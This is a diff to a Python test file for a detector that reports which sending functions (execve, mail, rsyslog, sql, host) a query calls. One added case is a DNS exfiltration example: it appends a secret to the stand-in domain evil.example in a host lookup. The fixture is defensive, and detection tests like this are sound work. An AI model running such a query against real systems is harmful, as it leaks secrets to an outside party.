@@ -105,6 +105,8 @@ def test_who_calls_a_sender_sends():
         ("SELECT * FROM execve /* */ (argv='x')", ("execve",)),
         ("SELECT mail(to='x') FROM scope()", ("mail",)),
         ("LET send = mail\nSELECT send(to='x') FROM scope()", ("mail",)),
+        ("SELECT rsyslog(hostname='x') FROM sql(driver='mysql')", ("rsyslog", "sql")),
+        ("SELECT host(name=Secret + '.evil.example') FROM scope()", ("host",)),
         ("SELECT mail, my_http_client FROM addresses()", ()),
     ],
 )
